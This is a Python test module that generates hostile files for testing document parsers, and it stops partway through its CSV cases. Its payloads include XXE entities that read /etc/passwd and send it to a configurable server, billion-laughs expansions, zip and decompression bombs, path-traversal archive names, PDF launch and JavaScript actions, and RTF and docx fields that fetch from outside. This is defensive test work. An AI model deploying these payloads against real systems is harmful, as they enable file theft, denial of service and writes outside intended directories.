"""Known attacks on what reads documents, over all formats: what each is called, its file, and what has to come of it.

The sources are the literature of each format (OWASP on XML, Fifield 2019 on zip archives, Müller et al. 2021 on PDF) and
what parsers were seen to fall over. Files are made as small as still tells a linear reader from one that is not.
"""

from __future__ import annotations

import bz2
import gzip
import json
import lzma
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterator
from typing import NamedTuple

from attack_files import (
    PAGE,
    http,
    link_in_zip,
    nested,
    overlapping,
    patched,
    pax,
    pdf,
    pdf_page,
    shown,
    stream,
    tar_of,
    warc,
    zip64_lie,
    zipped,
)

from formats import packages

ANYTHING = "any"
"""Both an error and none will do: what comes is the business of a library in C."""


class Attack(NamedTuple):
    """``make`` gives the bytes of the file ``path``. ``words`` have to stand in one of its documents, an error of the type
    that ``error`` begins with, and with the rest of it in its message, has to come; where it is empty, none may. In no
    case may a document or message hold a line of the system's passwords. ``seconds`` of processor time are allowed."""

    name: str
    path: str
    make: Callable[..., bytes]
    words: str = ""
    error: str = ""
    seconds: float = 3.0


def attacks(server: str = "http://127.0.0.1:9") -> Iterator[Attack]:
    """Yield the attacks; those that would have something fetched name ``server``."""
    yield from _xml(server)
    yield from _zip()
    yield from _tar()
    yield from _compressed()
    yield from _warc()
    yield from _pdf(server)
    yield from _office(server)
    yield from _rtf(server)
    yield from _html(server)
    yield from _mail(server)
    yield from _rows()
    yield from _text()


ALOUD = "Ketamine eased depression."


def _xml(server: str) -> Iterator[Attack]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    long = "x" * 50_000
    passwords = '<!ENTITY e SYSTEM "file:///etc/passwd">'
    subsets = {
        "quadratic blow-up": (f'<!ENTITY e "{long}">', "&e;" * 20_000, ""),
        "external file": (passwords, f"{ALOUD} &e;", ALOUD),
        "external address": (f'<!ENTITY e SYSTEM "{server}/e">', f"{ALOUD} &e;", ALOUD),
        "parameter entity": (f'<!ENTITY % p SYSTEM "{server}/p"> %p;', ALOUD, ALOUD),
        "parameter entity that sends a file": (
            f'<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "{server}/d"> %d; %send;', ALOUD, ALOUD,
        ),
        "entity of itself": ('<!ENTITY e "&f;"><!ENTITY f "&e;">', f"{ALOUD} &e;", None),
        "inclusion": ("", f'{ALOUD} <xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>', ALOUD),
        "schema from outside": ("", f'<x xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="a {server}/s">{ALOUD}</x>', ALOUD),
        "a million references": ("", ALOUD + "&#65;" * 300_000, ALOUD),
    }  # fmt: skip
    ends = {
        "article": ("a.nxml", "<article><front/><body><p>{}</p></body></article>"),
        "record": (
            "a.xml",
            "<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1</PMID><Article><ArticleTitle>{}</ArticleTitle>"
            "</Article></MedlineCitation></PubmedArticle></PubmedArticleSet>",
        ),
    }
    for format_, (path, body) in ends.items():
        root = "article" if format_ == "article" else "PubmedArticleSet"
        yield Attack(
            f"xml, {format_}: billion laughs", path,
            lambda root=root, body=body: f'<!DOCTYPE {root} [<!ENTITY a0 "ha">{laughs}]>{body.format("&a9;")}'.encode(),
            error="ReadError",
        )  # fmt: skip
        for name, (subset, text, words) in subsets.items():
            made = (f"<!DOCTYPE {root} [{subset}]>" if subset else "") + body.format(text)
            refused = "ReadError" if not words else ""
            if "&e;" in text and format_ == "record":  # cut out of its file, a record has no declarations
                words, refused = None, "ReadError"
            yield Attack(f"xml, {format_}: {name}", path, made.encode, words=words or "", error=refused)
        outside = f'<!DOCTYPE {root} SYSTEM "{server}/x.dtd"><?xml-stylesheet href="{server}/x.xsl" type="text/xsl"?>'
        yield Attack(
            f"xml, {format_}: type and style sheet from outside", path,
            (outside + body.format(ALOUD)).encode, words=ALOUD,
        )  # fmt: skip
    yield Attack(
        "xml: 200,000 elements deep", "a.nxml",
        lambda: b"<article><front/><body>" + b"<sec>" * 200_000 + b"</sec>" * 200_000 + b"</body></article>",
        error="ReadError",
    )  # fmt: skip
    yield Attack(
        "xml: 100,000 attributes", "a.nxml",
        lambda: b"<article " + b" ".join(b"a%d='x'" % n for n in range(100_000)) + b"><front/><body><p>x</p></body></article>",
        words="x",
    )  # fmt: skip
    yield Attack(
        "xml: 50,000 namespaces", "a.nxml",
        lambda: b"<article " + b" ".join(b"xmlns:a%d='u%d'" % (n, n) for n in range(5_000)) + b"><front/><body>"
        + b"<p>x</p>" * 5_000 + b"</body></article>",
        words="x", seconds=5,
    )  # fmt: skip


def _zip() -> Iterator[Attack]:
    page = ("page.html", PAGE)
    words = "lowers the risk"
    yield Attack("zip: archives within archives (42.zip)", "a.zip", lambda: nested(4, 10), error="LimitError: nested")
    yield Attack(
        "zip: members that overlap (Fifield)",
        "a.zip",
        lambda: overlapping(20_000, 2_000_000),
        error="ReadError: overlaps",
    )
    yield Attack("zip: 2 GB of zeros in a member", "a.zip", lambda: _bomb(2_000), error="LimitError: too large")
    yield Attack(
        "zip: a size that lies, small", "a.zip",
        lambda: patched(_bomb(100), b"PK\x01\x02", 24, struct.pack("<L", 100)), error="ReadError",
    )  # fmt: skip
    yield Attack(
        "zip: a size that lies, large", "a.zip",
        lambda: patched(zipped([page]), b"PK\x01\x02", 24, struct.pack("<L", 4_000_000)), error="ReadError",
    )  # fmt: skip
    for name in ("../../../etc/cron.d/x.html", "/etc/x.html", "..\\..\\x.html", "\\\\host\\share\\x.html", "C:\\x.html", "a\x00.html",
                 "CON.html", "a/\n\x1b[2J.html", "%s%n" * 9 + ".html", "x" * 60_000 + ".html", "\u202elmth.exe.html"):  # fmt: skip
        yield Attack(f"zip: called {name[:30]!r}", "a.zip", lambda name=name: zipped([(name, PAGE)]), words=words)
    yield Attack(
        "zip: a name twice",
        "a.zip",
        lambda: zipped([page, ("page.html", b"<p>Other words.</p>")]),
        words="Other words.",
    )
    yield Attack("zip: a symbolic link", "a.zip", link_in_zip, words=words)
    yield Attack(
        "zip: encrypted",
        "a.zip",
        lambda: patched(zipped([page]), b"PK\x01\x02", 8, b"\x01"),
        error="ReadError: encrypted",
    )
    yield Attack("zip: 40,000 members", "a.zip", _many, error="ReadError", seconds=8)
    yield Attack("zip: a directory of 2^62 bytes", "a.zip", zip64_lie, error="ReadError")
    yield Attack("zip: behind a program", "a.zip", lambda: b"PK\x03\x04junk" + bytes(500) + zipped([page]), words=words)
    yield Attack(
        "zip: an unknown method",
        "a.zip",
        lambda: patched(zipped([page]), b"PK\x01\x02", 10, b"\x61"),
        error="ReadError: packed with",
    )
    yield Attack(
        "zip: cut off",
        "a.zip",
        lambda: zipped([page, ("b.html", PAGE * 9)])[:-60],
        words=words,
        error="ReadError: truncated",
    )


def _bomb(megabytes: int) -> bytes:
    return zipped([("a.txt", bytes(megabytes * 1_000_000))]) if megabytes <= 100 else _large(megabytes)


def _large(megabytes: int) -> bytes:
    """Return a zip archive with a member of so many megabytes, packed as stored blocks would be without making them."""
    small = zipped([("a.txt", bytes(1_000_000))])
    return patched(small, b"PK\x01\x02", 24, struct.pack("<L", megabytes * 1_000_000))


def _many() -> bytes:
    count = 40_000
    directory = b"".join(
        b"PK\x01\x02" + struct.pack("<6H3L5H2L", 20, 20, 0, 0, 0, 0, 0, 0, 0, 10, 0, 0, 0, 0, 0, 0) + b"%06d.png" % n
        for n in range(count)
    )
    local = b"PK\x03\x04" + struct.pack("<5H3L2H", 20, 0, 0, 0, 0, 0, 0, 0, 10, 0) + b"000000.png"
    end64 = b"PK\x06\x06" + struct.pack("<Q2H2L4Q", 44, 45, 45, 0, 0, count, count, len(directory), len(local))
    place = b"PK\x06\x07" + struct.pack("<LQL", 0, len(local) + len(directory), 1)
    end = b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return local + directory + end64 + place + end


def _tar() -> Iterator[Attack]:
    page = ("page.html", tarfile.REGTYPE, PAGE, None)
    words = "lowers the risk"
    for kind, name in ((b"1", "hard link"), (b"2", "symbolic link"), (b"3", "device"), (b"6", "pipe"), (b"4", "disk")):
        yield Attack(
            f"tar: a {name}", "a.tar", lambda kind=kind: tar_of(("x.html", kind, b"", None), page), words=words
        )
    yield Attack(
        "tar: names that lead out", "a.tar", lambda: tar_of(("../../etc/x.html", b"0", PAGE, None)), words=words
    )
    yield Attack(
        "tar: sparse",
        "a.tar",
        lambda: tar_of(("x.html", b"S", b"", None), page),
        words=words,
        error="ReadError: a sparse",
    )
    yield Attack(
        "tar: 8 GB claimed",
        "a.tar",
        lambda: tar_of(("x.html", b"0", PAGE, 8_000_000_000)),
        error="LimitError: too large",
    )
    yield Attack(
        "tar: a header of 900 MB", "a.tar", lambda: tar_of(("x", b"x", b"", 900_000_000)), error="LimitError: a header"
    )
    yield Attack("tar: 60,000 bytes of headers", "a.tar", lambda: pax(b"9 a=bcd\n\n" * 6_000), words=words)
    yield Attack(
        "tar: a name of 60,000 bytes", "a.tar", lambda: pax(b"60010 path=" + b"x" * 59_993 + b".html\n"), words=words
    )
    yield Attack(
        "tar: a size in a header that lies", "a.tar", lambda: pax(b"22 size=999999999999999\n"), error="LimitError"
    )
    yield Attack("tar: a wrong checksum", "a.tar", lambda: tar_of(page) [:1024] + b"\xff" * 512, words=words, error="ReadError: damaged")  # fmt: skip
    yield Attack("tar: cut off", "a.tar", lambda: tar_of(page)[:540], error="ReadError: truncated")
    yield Attack(
        "tar: 20,000 headers in a row",
        "a.tar",
        lambda: tar_of(*[("x", b"x", b"9 a=bcdef\n", None)] * 20_000),
        error="ReadError",
    )


def _compressed() -> Iterator[Attack]:
    for suffix, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress)):
        yield Attack(
            f"{suffix}: 30 MB of zeros",
            f"a.html.{suffix}",
            lambda pack=pack: pack(bytes(30_000_000)),
            error="LimitError: too large",
        )
        yield Attack(
            f"{suffix}: two members",
            f"a.html.{suffix}",
            lambda pack=pack: pack(PAGE) + pack(b"<p>More.</p>"),
            words="More.",
        )
        yield Attack(
            f"{suffix}: other bytes behind",
            f"a.html.{suffix}",
            lambda pack=pack: pack(PAGE) + b"\x00junk" * 99,
            words="lowers the risk",
        )
        yield Attack(f"{suffix}: cut off", f"a.html.{suffix}", lambda pack=pack: pack(PAGE)[:-12], error="ReadError")
    yield Attack("gz: packed 60 times", "a.html.gz", lambda: _again(PAGE, 60), error="LimitError: packed too often")
    yield Attack(
        "gz: a file that unpacks to itself, begun",
        "a.gz",
        lambda: gzip.compress(gzip.compress(PAGE) * 3),
        words="lowers the risk",
    )
    yield Attack(
        "gz: a name and a comment without end",
        "a.html.gz",
        lambda: b"\x1f\x8b\x08\x18" + bytes(6) + b"x" * 1_000_000,
        error="ReadError",
    )


def _again(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = gzip.compress(data)
    return data


def _warc() -> Iterator[Attack]:
    words = "lowers the risk"
    good = ("response", http(PAGE), None)
    chunks = b"%x\r\n%s\r\n0\r\n\r\n" % (len(PAGE), PAGE)
    yield Attack(
        "warc: a length too large",
        "a.warc",
        lambda: warc(("response", http(PAGE), 10**12)),
        error="ReadError: truncated",
    )
    yield Attack(
        "warc: a length too small",
        "a.warc",
        lambda: warc(good, ("response", http(PAGE), 100), good),
        words=words,
        error="ReadError",
    )
    yield Attack(
        "warc: a length below zero", "a.warc", lambda: warc(("response", http(PAGE), -5)), error="ReadError: damaged"
    )
    yield Attack(
        "warc: requests, names of hosts, visits again", "a.warc",
        lambda: warc(("request", b"GET / HTTP/1.1\r\n\r\n", None), ("dns", b"127.0.0.1", None), ("revisit", http(b""), None), good),
        words=words,
    )  # fmt: skip
    yield Attack(
        "warc: no good answer",
        "a.warc",
        lambda: warc(("response", http(PAGE, status=404), None)),
        error="ReadError: no documents",
    )
    yield Attack(
        "warc: chunks",
        "a.warc",
        lambda: warc(("response", http(chunks, "Transfer-Encoding: chunked"), None)),
        words=words,
    )
    yield Attack(
        "warc: a chunk that lies", "a.warc",
        lambda: warc(("response", http(b"ffffff\r\n" + PAGE, "Transfer-Encoding: chunked"), None), good), words=words, error="ReadError: truncated",
    )  # fmt: skip
    yield Attack(
        "warc: gzip within gzip", "a.warc.gz",
        lambda: gzip.compress(warc(("response", http(gzip.compress(gzip.compress(PAGE)), "Content-Encoding: gzip, gzip"), None))), words=words,
    )  # fmt: skip
    yield Attack(
        "warc: encoded 1,000 times", "a.warc",
        lambda: warc(("response", http(PAGE, "Content-Encoding: " + ", ".join(["gzip"] * 1_000)), None), good), words=words,
    )  # fmt: skip
    yield Attack(
        "warc: 30 MB of zeros in a response", "a.warc",
        lambda: warc(("response", http(zlib.compress(bytes(30_000_000)), "Content-Encoding: deflate"), None), good), words=words, error="LimitError",
    )  # fmt: skip
    yield Attack(
        "warc: headers without end",
        "a.warc",
        lambda: b"WARC/1.0\r\n" + b"A: b\r\n" * 100_000,
        error="ReadError: damaged",
    )


def _pdf(server: str) -> Iterator[Attack]:
    line = shown("Naltrexone helped.")
    words = "Naltrexone helped."
    catalog = b"<</Type /Catalog /Pages 2 0 R>>"
    deflate = b"/Filter /FlateDecode"
    yield Attack(
        "pdf: pages that hold themselves",
        "a.pdf",
        lambda: pdf(catalog, b"<</Type /Pages /Kids [2 0 R 2 0 R] /Count 2>>"),
        error=ANYTHING,
    )
    yield Attack(
        "pdf: 1,000,000 pages claimed",
        "a.pdf",
        lambda: pdf_page(line).replace(b"/Count 1", b"/Count 1000000"),
        error=ANYTHING,
    )
    yield Attack(
        "pdf: a page 2,000 times",
        "a.pdf",
        lambda: pdf_page(line).replace(b"/Kids [3 0 R] /Count 1", b"/Kids [" + b"3 0 R " * 2_000 + b"] /Count 2000"),
        error=ANYTHING,
        seconds=20,
    )
    yield Attack(
        "pdf: 50 MB of zeros in a stream",
        "a.pdf",
        lambda: pdf_page(zlib.compress(bytes(50_000_000)), deflate),
        error=ANYTHING,
        seconds=8,
    )
    yield Attack(
        "pdf: packed ten times",
        "a.pdf",
        lambda: pdf_page(_deflated(line, 10), b"/Filter [" + b"/FlateDecode " * 10 + b"]"),
        words=words,
    )
    yield Attack(
        "pdf: a filter 10,000 times",
        "a.pdf",
        lambda: pdf_page(line, b"/Filter [" + b"/ASCIIHexDecode " * 10_000 + b"]"),
        error=ANYTHING,
    )
    yield Attack("pdf: arrays 100,000 deep", "a.pdf", lambda: pdf_page(b"[" * 100_000 + line), error=ANYTHING)
    yield Attack(
        "pdf: dictionaries 50,000 deep",
        "a.pdf",
        lambda: pdf_page(line, more=(b"<</A " * 50_000 + b"1" + b">>" * 50_000,)),
        error=ANYTHING,
    )
    yield Attack("pdf: 50,000 states saved", "a.pdf", lambda: pdf_page(b"q " * 50_000 + line), words=words)
    yield Attack(
        "pdf: a table of objects that refers to itself",
        "a.pdf",
        lambda: pdf(catalog, b"<</Type /Pages /Kids [] /Count 0>>", trailer=b"/Prev 9 /XRefStm 9 "),
        error=ANYTHING,
    )
    yield Attack(
        "pdf: a length that is its own",
        "a.pdf",
        lambda: pdf_page(line).replace(b"/Length %d " % len(line), b"/Length 4 0 R "),
        error=ANYTHING,
    )
    actions = (
        b"/OpenAction <</S /JavaScript /JS (app.launchURL\\('%s'\\))>> /AA <</WC <</S /Launch /F (/bin/sh)>>>> "
        b"/URI <</Base (%s)>>" % (server.encode(), server.encode())
    )
    yield Attack(
        "pdf: scripts, programs and addresses to open", "a.pdf", lambda: pdf_page(line, catalog=actions), words=words
    )
    attached = b"/Names <</EmbeddedFiles <</Names [(x) 6 0 R]>>>>"
    yield Attack(
        "pdf: a file within",
        "a.pdf",
        lambda: pdf_page(
            line, catalog=attached, more=(b"<</Type /Filespec /F (x.exe) /EF <</F 7 0 R>>>>", stream(b"MZ" * 999))
        ),
        words=words,
    )
    yield Attack(
        "pdf: a stream that is another file",
        "a.pdf",
        lambda: pdf_page(line, b"/F (/etc/passwd) /FFilter /None"),
        error=ANYTHING,
    )
    yield Attack(
        "pdf: encrypted in no known way",
        "a.pdf",
        lambda: pdf_page(line).replace(b"/Root", b"/Encrypt <</Filter /None /V 99>> /Root"),
        error="ReadError",
    )
    yield Attack(
        "pdf: a page of no size",
        "a.pdf",
        lambda: pdf_page(line).replace(b"[0 0 612 792]", b"[0 0 1e38 -1e38]"),
        error=ANYTHING,
    )
    yield Attack("pdf: letters without end", "a.pdf", lambda: pdf_page(shown("A" * 300_000)), error="", seconds=6)
    yield Attack("pdf: 8,000 lines in one place", "a.pdf", lambda: pdf_page(line * 8_000), error="", seconds=15)


def endless() -> Attack:
    """Return what no reader can refuse beforehand and no alarm in Python stops: only the end of its process does."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X 6 0 R>>>>"
    resources = b"/Resources <</Font <</F 5 0 R>> /XObject <</X 6 0 R>>>>"

    def make() -> bytes:
        return pdf_page(b"/X Do " + shown("a"), page=resources, more=(stream(b"/X Do " * 50, form),))

    return Attack("pdf: a form that draws itself", "endless.pdf", make, error="LimitError: took longer")


def _deflated(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = zlib.compress(data)
    return data


def _office(server: str) -> Iterator[Attack]:
    docx, odt, epub, p = packages.docx, packages.odt, packages.epub, packages.p
    laughs = '<!DOCTYPE x [<!ENTITY a "' + "ha" * 50_000 + '">]>'
    words = ALOUD
    parts = {
        "docx": ("word/document.xml", lambda: docx(p(ALOUD))),
        "odt": ("content.xml", lambda: odt(f"<text:p>{ALOUD}</text:p>")),
    }
    for suffix, (part, make) in parts.items():
        path = f"a.{suffix}"
        yield Attack(
            f"{suffix}: an entity 50,000 times",
            path,
            lambda part=part: zipped([(part, (laughs + "<x>" + "&a;" * 50_000 + "</x>").encode())]),
            error="ReadError",
        )
        yield Attack(
            f"{suffix}: 300 MB of spaces in a part",
            path,
            lambda part=part: zipped([(part, b"<x>" + b" " * 80_000_000 + b"</x>")]),
            error="LimitError",
        )
        yield Attack(
            f"{suffix}: only its directory", path, lambda make=make: b"PK\x03\x04" + make()[-200:], error="ReadError"
        )
        yield Attack(f"{suffix}: without its text", path, lambda: zipped([("other.xml", b"<x/>")]), error="ReadError")
        yield Attack(
            f"{suffix}: 60,000 parts",
            path,
            lambda part=part: zipped([(part, b"<x/>")]) + b"PK\x01\x02" * 60_000,
            error="LimitError",
        )
        yield Attack(f"{suffix}: cut off", path, lambda make=make: make()[:-30], error="ReadError")
        yield Attack(
            f"{suffix}: a part of the wrong size",
            path,
            lambda make=make: patched(make(), b"PK\x01\x02", 24, b"\xff\xff\xff\x00"),
            error="",
        )
    tables = "<w:tbl><w:tr><w:tc>"
    yield Attack(
        "docx: tables 100,000 deep",
        "a.docx",
        lambda: docx(tables * 100_000 + p(ALOUD) + "</w:tc></w:tr></w:tbl>" * 100_000),
        error="ReadError",
    )
    yield Attack(
        "docx: tables 600 deep",
        "a.docx",
        lambda: docx(tables * 600 + p(ALOUD) + "</w:tc></w:tr></w:tbl>" * 600),
        words=words,
    )
    yield Attack(
        "docx: 30,000 cells that span 2^31",
        "a.docx",
        lambda: docx(
            "<w:tbl><w:tr>"
            + f'<w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>{p("a")}</w:tc>' * 30_000
            + "</w:tr></w:tbl>"
            + p(ALOUD)
        ),
        words=words,
        seconds=5,
    )
    yield Attack(
        "docx: fields and text boxes without end",
        "a.docx",
        lambda: docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 20_000 + p(ALOUD)),
        error="ReadError",
    )
    relations = f'<Relationships><Relationship Id="a" Type="{packages.RELATIONS}/attachedTemplate" Target="{server}/x.dotm" TargetMode="External"/><Relationship Id="b" Type="{packages.RELATIONS}/image" Target="file:///etc/passwd" TargetMode="External"/><Relationship Id="c" Type="{packages.RELATIONS}/footnotes" Target="../../../etc/passwd"/><Relationship Id="d" Type="{packages.RELATIONS}/footnotes" Target="document.xml"/><Relationship Id="e" Type="{packages.RELATIONS}/comments" Target="document.xml"/></Relationships>'
    body = f"<w:document {packages.SPACES}><w:body>{p(ALOUD)}</w:body></w:document>"
    yield Attack(
        "docx: templates from outside, parts that are each other",
        "a.docx",
        lambda: zipped([("word/document.xml", body.encode()), ("word/_rels/document.xml.rels", relations.encode())]),
        words=words,
    )
    styles = '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style>'
    yield Attack(
        "docx: styles that are based on each other",
        "a.docx",
        lambda: docx(p(ALOUD, '<w:pStyle w:val="A"/>'), styles=styles),
        words=words,
    )
    yield Attack(
        "docx: 200,000 raised letters",
        "a.docx",
        lambda: docx(
            p(ALOUD)
            + "<w:p>"
            + '<w:r><w:rPr><w:vertAlign w:val="superscript"/></w:rPr><w:t>1</w:t></w:r>' * 50_000
            + "</w:p>"
        ),
        words=words,
        seconds=6,
    )
    yield Attack(
        "odt: a cell 2^31 times",
        "a.odt",
        lambda: odt(
            '<table:table><table:table-row table:number-rows-repeated="2147483647"><table:table-cell table:number-columns-repeated="2147483647"><text:p>a</text:p></table:table-cell></table:table-row></table:table>'
            + f"<text:p>{ALOUD}</text:p>"
        ),
        words=words,
    )
    yield Attack(
        "odt: 2^31 spaces", "a.odt", lambda: odt(f'<text:p>{ALOUD}<text:s text:c="2147483647"/></text:p>'), words=words
    )
    yield Attack(
        "odt: frames from outside",
        "a.odt",
        lambda: odt(f'<text:p>{ALOUD}<draw:frame><draw:image xlink:href="{server}/x.png"/></draw:frame></text:p>'),
        words=words,
    )
    yield Attack(
        "epub: a chapter of 80 MB",
        "a.epub",
        lambda: epub({"a.xhtml": f"<p>{ALOUD}</p>" + " " * 80_000_000}),
        error="LimitError",
    )
    yield Attack(
        "epub: a chapter from outside and from below",
        "a.epub",
        lambda: epub({"a.xhtml": f'<p>{ALOUD}</p><img src="{server}/x"/>', "../../etc/passwd": "x"}),
        words=words,
    )
    yield Attack(
        "epub: no list of its parts",
        "a.epub",
        lambda: zipped([("mimetype", b"application/epub+zip"), ("a.xhtml", PAGE)]),
        error="ReadError",
    )
    yield Attack(
        "epub: a container that names itself",
        "a.epub",
        lambda: zipped(
            [
                (
                    "META-INF/container.xml",
                    b'<container><rootfiles><rootfile full-path="META-INF/container.xml"/></rootfiles></container>',
                )
            ]
        ),
        error="ReadError",
    )


def _rtf(server: str) -> Iterator[Attack]:
    text = ALOUD.encode()
    cases = {
        "100,000 groups": (b"{" * 100_000 + b"}" * 100_000 + text, ALOUD),
        "groups that never end": (text + rb"{\b " * 100_000, ALOUD),
        "100,000 ends": (b"}" * 100_000 + text, None),
        "a picture of 999,999,999 bytes": (text + rb"\par\bin999999999 x", ALOUD),
        "bytes below zero": (text + rb"\par\bin-5 x", ALOUD),
        "a number of 5,000 digits": (text + rb"\fs" + b"9" * 5_000 + b" x", ALOUD),
        "a word of 100,000 letters": (text + b"\\" + b"a" * 100_000 + b" x", ALOUD),
        "an object to start": (text + rb"{\object\objautlink\objupdate{\*\objdata 0105}}", ALOUD),
        "fields from outside": (text + rb'{\field{\*\fldinst INCLUDETEXT "%s/x" "file:///etc/passwd"}{\fldrslt x}}' % server.encode(), ALOUD),
        "100,000 rows": (text + rb"\par" + rb"\trowd\cellx100 a\cell\row" * 20_000, ALOUD),
        "100,000 cells": (text + rb"\par\trowd " + rb"\cellx100" * 20_000 + rb"a\cell" * 20_000 + rb"\row", ALOUD),
        "50,000 colours, fonts and styles": (rb"{\fonttbl" + rb"{\f1 A;}" * 20_000 + b"}" + text, ALOUD),
        "half characters": (text + rb"\u-10179?\u55357?\'ff\'zz", ALOUD),
    }  # fmt: skip
    for name, (body, words) in cases.items():
        made = rb"{\rtf1\ansi " + body + b"}"
        yield Attack(f"rtf: {name}", "a.rtf", lambda made=made: made, words=words or "", error="", seconds=5)


def _html(server: str) -> Iterator[Attack]:
    cases = {
        "a million elements deep": lambda: b"<div>" * 1_000_000 + b"%s",
        "a million attributes": lambda: b"<p " + b"a=1 " * 1_000_000 + b">%s</p>",
        "a million different attributes": lambda: b"<p " + b" ".join(b"a%d" % n for n in range(200_000)) + b">%s</p>",
        "an attribute of 10 MB": lambda: b"<p title='" + b"x" * 10_000_000 + b"'>%s</p>",
        "a comment that never ends": lambda: b"<p>%s</p><!--" + b"-" * 1_000_000,
        "a script that never ends": lambda: b"<p>%s</p><script>" + b"<!--<script>" * 50_000,
        "100,000 comments": lambda: b"<!---->" * 100_000 + b"<p>%s</p>",
        "cells that span 2^31": lambda: b"<p>%s</p><table>" + b"<tr><td colspan=2147483647 rowspan=2147483647>a" * 2_000 + b"</table>",
        "10,000 cells in a row": lambda: b"<p>%s</p><table><tr>" + b"<td>a" * 10_000 + b"</table>",
        "tables 3,000 deep": lambda: b"<table><tr><td>" * 3_000 + b"%s",
        "20,000 links in a list": lambda: b"<p>%s</p><ul>" + b"<li><a href='/x'>a</a>" * 20_000 + b"</ul>",
        "forms, buttons and elements misnested": lambda: b"<p>%s</p>" + b"<b><i><a><p></b></i></a>" * 5_000,
        "a base and a page to go to": lambda: b"<base href='%(s)s'><meta http-equiv=refresh content='0;url=%(s)s/x'><p>%%s</p>" % {b"s": server.encode()},
        "frames, pictures, styles and scripts from outside": lambda: b"<p>%%s</p><iframe src='%(s)s/f'></iframe><img src='%(s)s/i'><link rel=stylesheet href='%(s)s/c'><script src='%(s)s/j'></script><object data='file:///etc/passwd'></object>" % {b"s": server.encode()},
        "data in an address": lambda: b"<p>%s</p><img src='data:image/png;base64," + b"A" * 2_000_000 + b"'>",
        "a line of 5 MB": lambda: b"<p>%s</p><p hidden>" + b"x" * 5_000_000 + b"</p>",
        "words behind its end": lambda: b"<p>a</p></body></html>\n<p>%s</p>",
        "a million ends": lambda: b"<p>%s</p>" + b"</div>" * 1_000_000,
        "a million less-than signs": lambda: b"<p>%s</p>" + b"<" * 1_000_000,
        "a million ampersands": lambda: b"<p>%s</p><!-- -->" + b"&" * 300_000,
        "JSON 100,000 deep": lambda: b"<p>%s</p><script type='application/ld+json'>" + b"[" * 100_000 + b"</script>",
        "half and no characters": lambda: b"<p>%s &#xD800; &#0; &#x110000; &#99999999999999;</p>",
        "an encoding of no name": lambda: b"<meta charset='utf-7'><meta charset='" + b"x" * 9_999 + b"'><p>%s</p>",
        "a document in a template in SVG": lambda: b"<svg><foreignObject><template><math>" * 300 + b"</math></template></foreignObject></svg>" * 300 + b"<p>%s</p>",
    }  # fmt: skip
    for name, make in cases.items():
        yield Attack(
            f"html: {name}", "a.html",
            lambda make=make: b"<html><body>" + make() % ALOUD.encode() if b"%s" in make() else make(), words=ALOUD, seconds=10,
        )  # fmt: skip


def _mail(server: str) -> Iterator[Attack]:
    head = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b0\r\n\r\n"
    page = b"--b%d\r\nContent-Type: text/html\r\n\r\n" + PAGE + b"\r\n"

    def deep(count: int) -> bytes:
        inner = b"".join(
            b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (n, n + 1) for n in range(count)
        )
        return head + inner + page % count

    words = "lowers the risk"
    yield Attack("mhtml: 1,000 parts deep", "a.mhtml", lambda: deep(1_000), error="ReadError")
    yield Attack("mhtml: 50 parts deep", "a.mhtml", lambda: deep(50), words=words)
    yield Attack(
        "mhtml: 100,000 parts", "a.mhtml", lambda: head + b"--b0\r\n\r\nx\r\n" * 100_000, error="LimitError", seconds=8
    )
    yield Attack(
        "mhtml: the same boundary within",
        "a.mhtml",
        lambda: head + (head.replace(b"MIME-Version: 1.0", b"--b0")) * 500 + page % 0,
        words=words,
    )
    yield Attack(
        "mhtml: headers of 5 MB",
        "a.mhtml",
        lambda: head[:-2] + b"X: " + b"y" * 5_000_000 + b"\r\n\r\n" + page % 0,
        error="",
    )
    yield Attack(
        "mhtml: base64 that is none",
        "a.mhtml",
        lambda: head + b"--b0\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b"=" * 99_999,
        error="ReadError",
    )
    yield Attack(
        "mhtml: a part that is elsewhere",
        "a.mhtml",
        lambda: (
            head
            + b'--b0\r\nContent-Type: message/external-body; access-type=URL; URL="%s"\r\n\r\n\r\n' % server.encode()
            + page % 0
        ),
        words=words,
    )


def _rows() -> Iterator[Attack]:
    good = json.dumps({"text": ALOUD}).encode() + b"\n"
    cases = {
        "jsonl: a line of 30 MB": (b'{"text": "' + b"x" * 30_000_000 + b'"}\n' + good, ALOUD, "LimitError"),
        "jsonl: objects 100,000 deep": (b'{"text": "a", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}\n" + good, ALOUD, "ReadError"),
        "jsonl: a key 50,000 times": (b'{"text": "' + ALOUD.encode() + b'"' + b', "a": 1' * 50_000 + b"}\n", ALOUD, ""),
        "jsonl: a number of 1,000,000 digits": (b'{"text": "a", "n": ' + b"9" * 1_000_000 + b"}\n" + good, ALOUD, None),
        "jsonl: half characters and nulls": (b'{"text": "\\ud800 \\u0000 ' + ALOUD.encode() + b'"}\n', ALOUD, ""),
        "jsonl: a list that never ends": (b"[" + good.strip() + b"," * 100_000, ALOUD, None),
        "jsonl: names of Python's objects": (b'{"text": "' + ALOUD.encode() + b'", "__class__": "os.system", "__proto__": {"a": 1}}\n', ALOUD, ""),
        "csv: a quotation mark that never closes": (b'text,b\n"' + b"a\n" * 200_000 + ALOUD.encode(), None, None),
        "csv: 300,000 quotation marks": (b'text,b\n"' + b'""' * 300_000 + b'",x\n' + ALOUD.encode() + b",y\n", ALOUD, None),
